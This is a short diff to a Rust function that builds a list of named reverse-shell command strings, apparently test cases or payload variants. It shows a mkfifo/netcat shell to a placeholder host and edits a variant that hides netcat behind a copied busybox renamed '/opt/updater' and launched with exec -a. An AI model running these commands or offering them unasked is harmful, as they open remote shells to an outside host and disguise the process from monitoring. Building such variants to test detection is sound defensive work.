@@ -50,10 +50,12 @@ fn shells(port: u16) -> Vec<(&'static str, String)> {
                 "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {HOST} {port} > /tmp/f"
             ),
         ),
+        // A static binary under another name; busybox finds its applet by argv[0].
         (
             "renamed",
             format!(
-                "cp /usr/bin/busybox-static /opt/updater && /opt/updater nc {HOST} {port} -e /bin/sh"
+                "cp /usr/bin/busybox-static /opt/updater && \
+                 bash -c 'exec -a busybox /opt/updater nc {HOST} {port} -e /bin/sh'"
             ),
         ),
     ]
